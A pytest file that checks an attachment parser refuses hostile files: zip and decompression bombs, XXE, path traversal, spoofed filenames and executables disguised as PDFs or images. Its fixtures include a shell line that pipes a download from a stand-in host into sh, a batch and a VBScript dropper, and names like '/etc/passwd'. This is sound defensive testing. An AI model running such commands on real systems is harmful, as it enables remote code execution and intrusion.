"""Hostile attachments are refused quickly, in bounded memory, with a reason a clerk reads."""

from __future__ import annotations

import io
import time
import tracemalloc
import zipfile

import docx
import pytest

from core.errors import HostileInput, ParseError
from parsers.documents import parse_form_document
from parsers.safety import (
    Limits,
    check_image_size,
    check_member_name,
    check_not_program,
    check_zip_package,
    program_kind,
    sanitize_filename,
)
from tests.parsers.corpus import build_hostile

HOSTILE = build_hostile()


@pytest.mark.parametrize("item", HOSTILE, ids=lambda i: i.name)
def test_hostile_file_is_refused_quickly_with_a_reason(item):
    data = item.path.read_bytes()
    started = time.monotonic()
    with pytest.raises(ParseError) as raised:
        parse_form_document(data, item.name)
    elapsed = time.monotonic() - started
    assert type(raised.value).__name__ == item.error or (
        item.error == "ParseError" and not isinstance(raised.value, HostileInput))
    for word in item.reason_words:
        assert word in raised.value.reason
    assert elapsed < 3.0


@pytest.mark.parametrize("item", [i for i in HOSTILE if "bomb" in i.name or "laughs" in i.name],
                         ids=lambda i: i.name)
def test_bombs_are_refused_in_bounded_memory(item):
    data = item.path.read_bytes()
    tracemalloc.start()
    try:
        with pytest.raises(HostileInput):
            parse_form_document(data, item.name)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert peak < 32 << 20


def test_hostile_set_is_complete():
    assert {i.name for i in HOSTILE} >= {
        "zip_bomb.docx", "billion_laughs.docx", "xxe.docx", "traversal.docx",
        "nested_zip.docx", "encrypted.pdf", "truncated.pdf", "flate_bomb.pdf"}


def _docx(**extra: bytes) -> bytes:
    buffer = io.BytesIO()
    docx.Document().save(buffer)
    if not extra:
        return buffer.getvalue()
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(buffer.getvalue())) as source, \
            zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            target.writestr(info, source.read(info))
        for name, data in extra.items():
            target.writestr(name.replace("__", "/"), data)
    return out.getvalue()


def test_a_plain_docx_and_an_embedded_workbook_pass():
    check_zip_package(_docx()).close()
    check_zip_package(_docx(word__embeddings__sheet1_xlsx=b"PK\x03\x04 workbook")).close()


def test_a_part_that_passed_is_checked_again_when_its_bytes_or_the_limit_change():
    def package(xml: bytes) -> bytes:
        return _docx(**{"word__extra.xml": xml})

    check_zip_package(package(b"<a>1</a>")).close()
    check_zip_package(package(b"<a>1</a>")).close()  # the very same part passes again
    with pytest.raises(HostileInput) as raised:
        check_zip_package(package(b'<!DOCTYPE a [<!ENTITY x "1">]><a>&x;</a>'))
    assert "DTD" in raised.value.reason
    with pytest.raises(HostileInput) as raised:
        check_zip_package(package(b"<a>1</a>"), Limits(max_xml_part=4))
    assert "larger than any real form" in raised.value.reason


def test_limits_on_member_count_and_total_size():
    with pytest.raises(HostileInput) as raised:
        check_zip_package(_docx(), Limits(max_members=3))
    assert "parts" in raised.value.reason
    with pytest.raises(HostileInput) as raised:
        check_zip_package(_docx(), Limits(max_total_inflated=1000))
    assert "zip bomb" in raised.value.reason
    with pytest.raises(HostileInput) as raised:
        check_zip_package(_docx(), Limits(max_document_bytes=100))
    assert "MB" in raised.value.reason


@pytest.mark.parametrize("name", ["../x.xml", "/etc/passwd", "C:\\evil.exe", "a/../../b",
                                  "word\\..\\..\\x", "word/doc\x00.xml", "word/\x1b[31m.xml"])
def test_bad_member_names(name):
    with pytest.raises(HostileInput):
        check_member_name(name)


def test_good_member_names():
    for name in ["word/document.xml", "[Content_Types].xml", "word/media/图片1.png"]:
        check_member_name(name)


def test_image_size_caps():
    check_image_size(2480, 3508)  # A4 at 300 dpi
    with pytest.raises(HostileInput) as raised:
        check_image_size(20_000, 20_000)
    assert "decompression bomb" in raised.value.reason
    with pytest.raises(HostileInput):
        check_image_size(100_000, 10)
    with pytest.raises(HostileInput):
        check_image_size(0, 100)


@pytest.mark.parametrize(("name", "safe"), [
    ("../../etc/passwd", "passwd"),
    ("C:\\Users\\clerk\\投诉受理单.docx", "投诉受理单.docx"),
    ("受理单\x00\r\n.pdf", "受理单.pdf"),
    ("..hidden.doc", "hidden.doc"),
    ('a<b>:"c"|?*.pdf', "a_b___c____.pdf"),
    ("report\u202egpj.exe", "report_gpj.exe"),
    ("", "attachment"),
    ("////", "attachment"),
    ("很长" * 100 + ".docx", "很长" * 57 + "很.docx"),
])
def test_sanitize_filename(name, safe):
    assert sanitize_filename(name) == safe


# The first bytes of programs as their linkers write them: a PE (DOS stub, e_lfanew → "PE\0\0"),
# a 64-bit ELF, a 64-bit Mach-O, a shell script, a batch file, a VBScript dropper.
PE = (b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00\xb8" + b"\x00" * 43 + b"\x80\x00\x00\x00"
      + b"\x0e\x1f\xba\x0e\x00\xb4\t\xcd!\xb8\x01L\xcd!This program cannot be run in DOS mode.\r\r\n$"
      + b"\x00" * 11 + b"PE\x00\x00\x64\x86" + b"\x00" * 200)
PROGRAMS = {
    "PE named 发票.pdf": (PE, "发票.pdf"),
    "ELF named 对账单.jpg": (b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00", "对账单.jpg"),
    "Mach-O named 说明.docx": (b"\xcf\xfa\xed\xfe\x07\x00\x00\x01\x03\x00\x00\x00", "说明.docx"),
    "shell script named 投诉.pdf": (b"#!/bin/sh\ncurl -s http://x.example/a | sh\n", "投诉.pdf"),
    "batch file named 材料.doc": (b"@echo off\r\nstart /b payload.exe\r\n", "材料.doc"),
    "VBScript named 截图.png": (b'Set s = CreateObject("WScript.Shell")\r\ns.Run "cmd"\r\n', "截图.png"),
    "a .scr by its name": (b"\x00\x01whatever", "屏保.scr"),
    "a double extension": (b"text", "发票.pdf.vbs"),
}


@pytest.mark.parametrize("name", PROGRAMS)
def test_a_program_is_refused_whatever_it_is_called(name):
    data, filename = PROGRAMS[name]
    assert program_kind(data, filename) is not None
    with pytest.raises(HostileInput, match="executable program"):
        check_not_program(data, filename)


@pytest.mark.parametrize("data, filename", [
    (b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\n", "发票.pdf"),
    (b"\xff\xd8\xff\xe0\x00\x10JFIF\x00", "scan.jpg"),
    (b"PK\x03\x04\x14\x00\x06\x00", "受理单.docx"),
    (b"MZ is how the clerk signs: MZ 2026-12-01", "note.txt"),  # "MZ" text, no binary header
    ("客户投诉：柜员态度差 #!".encode(), "投诉.txt"),
    (b"", "empty.pdf"),
])
def test_documents_are_not_programs(data, filename):
    assert program_kind(data, filename) is None
